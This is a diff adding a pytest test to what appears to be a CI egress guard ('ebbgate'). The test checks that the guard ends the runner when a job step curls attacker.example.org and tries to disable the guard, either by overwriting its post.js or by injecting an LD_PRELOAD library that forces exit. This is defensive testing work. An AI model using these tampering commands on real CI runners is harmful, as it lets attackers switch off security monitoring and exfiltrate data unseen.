@@ -103,3 +103,24 @@ def test_the_guard_outlives_the_runners_clean_up(runner: Runner, machine: Machin
     assert after.code != 0 or "Ebbgate" in after.stdout
     assert arrived(machine) == b""
     assert machine.run(["/bin/sh", "-c", "/var/lib/ebbgate/*/bin/python -I -m ebbgate status"]).code == 0
+
+
+FOLDER = '"$RUNNER_WORKSPACE/../_actions/ebbgate/ebbgate/v1/src/action"'
+EXIT = "__attribute__((constructor)) static void leave(void) { _exit(0); }"
+SUBVERSIONS = {
+    "a replaced script": f"echo 'process.exit(0)' >{FOLDER}/post.js",
+    "a preloaded library": f"echo '#include <unistd.h>\n{EXIT}' >/tmp/l.c; gcc -shared -o /tmp/l.so /tmp/l.c; "
+    'echo "LD_PRELOAD=/tmp/l.so" >>"$GITHUB_ENV"',
+}
+
+
+@pytest.mark.parametrize("name", SUBVERSIONS)
+def test_a_last_step_that_ends_well_although_the_job_must_fail_ends_the_runner(
+    runner: Runner, machine: Machine, name: str
+) -> None:
+    script = f"curl -sS https://attacker.example.org/; {SUBVERSIONS[name]}"
+    result = runner.run(job(f"      - run: |\n          {script.replace(chr(10), chr(10) + '          ')}"))
+    assert result.conclusion != "success", result.log
+    assert arrived(machine) == b""
+    events = machine.inside(lambda: Path("/run/ebbgate/events.jsonl").read_text())
+    assert "the guard ended the runner" in events
